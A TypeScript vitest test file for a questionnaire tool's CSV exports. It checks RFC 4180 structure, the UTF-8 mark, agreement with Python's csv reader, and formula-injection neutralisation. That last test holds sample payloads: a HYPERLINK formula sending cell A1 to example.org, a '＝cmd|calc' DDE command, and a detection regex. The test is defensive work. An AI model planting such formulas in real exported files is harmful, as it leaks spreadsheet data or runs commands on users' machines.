import { execFileSync } from 'node:child_process'
import { expect, test } from 'vitest'
import { answersCsv, conditionsCsv } from '../../src/report/csv/csv.ts'
import type { ReportInput } from '../../src/report/index.ts'
import type { AssessmentFile } from '../../src/schemas/saved.ts'
import { PICKS, type Pick, questionnaire, sample } from './sample.ts'

const input = (pick: Pick, changes?: Partial<AssessmentFile>): ReportInput => ({
  questionnaire,
  ...sample(pick, changes),
})

/** Another reader than the library that writes: RFC 4180 letter by letter, and nothing else let pass. */
function read(text: string): string[][] {
  const rows: string[][] = [['']]
  let isQuoted = false
  for (let at = 0; at < text.length; at += 1) {
    const char = text.charAt(at)
    const row = rows.at(-1) ?? []
    const add = (more: string) => row.push(`${row.pop() ?? ''}${more}`)
    if (isQuoted) {
      if (char !== '"') add(char)
      else if (text.charAt(at + 1) === '"') at += add('"') > 0 ? 1 : 0
      else isQuoted = false
    } else if (char === '"') isQuoted = true
    else if (char === ',') row.push('')
    else if (char === '\r' && text.charAt(at + 1) === '\n') {
      at += 1
      rows.push([''])
    } else if (char === '\r' || char === '\n') throw new Error(`a bare line end at ${at}`)
    else add(char)
  }
  const end = rows.pop()
  if (isQuoted || end?.join() !== '') throw new Error('the file does not end with a whole row')
  return rows
}

const [first = '', second = '', third = '', fourth = ''] = questionnaire.questions
  .filter(
    ({ evidenceFor, appliesWhen, variants }) =>
      evidenceFor === undefined && appliesWhen === undefined && variants === undefined,
  )
  .map(({ id }) => id)

test('answers: a row to every question asked, in rows of six, with the mark of UTF-8', () => {
  const text = answersCsv(input(PICKS.mixed, { reasons: { [first]: 'Ελλάδα, "quoted"\r\nsecond line' } }))
  expect(text.startsWith('\uFEFF')).toBe(true)
  const [head, ...rows] = read(text.slice(1))
  expect(head).toEqual(['Step', 'Question', 'Answer', 'Evidence', 'Reason given', 'What it did'])
  expect(rows.every((row) => row.length === 6)).toBe(true)
  const { document } = sample(PICKS.mixed)
  const printed = document.sections.flatMap(({ blocks }) => blocks.filter(({ kind }) => kind === 'answer'))
  expect(rows).toHaveLength(printed.length)
  expect(rows.some((row) => row[4] === 'Ελλάδα, "quoted"\nsecond line')).toBe(true)
  expect(rows.filter((row) => row[5] === '').length).toBeLessThan(rows.length)
})

test('conditions: every change that the engine names, once, in the words of the report', () => {
  const given = input(PICKS.worst)
  const [head, ...rows] = read(conditionsCsv(given).slice(1))
  expect(head).toEqual(['Step', 'Change', 'As answered', 'Would have to be', 'Question'])
  expect(rows.length).toBeGreaterThanOrEqual(given.assessment.conditions.length)
  expect(new Set(rows.map((row) => row.join())).size).toBe(rows.length)
})

const FORMULAS = {
  [first]: '=HYPERLINK("https://example.org/?"&A1,"Open")',
  [second]: '=1+1\nand a second line',
  [third]: '@SUM(A1:A9)\r\n+3',
  [fourth]: '＝cmd|calc',
}

test('a formula typed into a reason is text to a spreadsheet, with one line or with many', () => {
  const rows = read(answersCsv(input(PICKS.mixed, { reasons: FORMULAS })).slice(1))
  const reasons = rows
    .map((row) => row[4] ?? '')
    .filter((reason) => reason !== '' && reason !== 'Reason given')
  expect(reasons).toHaveLength(Object.keys(FORMULAS).length)
  for (const reason of reasons) expect(reason.charAt(0)).toBe("'")
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@\t\r＝＋－＠]/u)
})

const hasPython = (() => {
  try {
    execFileSync('python3', ['-c', 'import csv'], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
})()

test.skipIf(!hasPython)('Python reads the same rows', () => {
  const text = answersCsv(input(PICKS.mixed, { reasons: FORMULAS }))
  const program =
    'import csv,io,json,sys;print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer,"utf-8-sig",newline=""),strict=True))))'
  const rows: unknown = JSON.parse(
    execFileSync('python3', ['-c', program], { input: text, encoding: 'utf8', maxBuffer: 1e8 }),
  )
  expect(rows).toEqual(read(text.slice(1)))
})
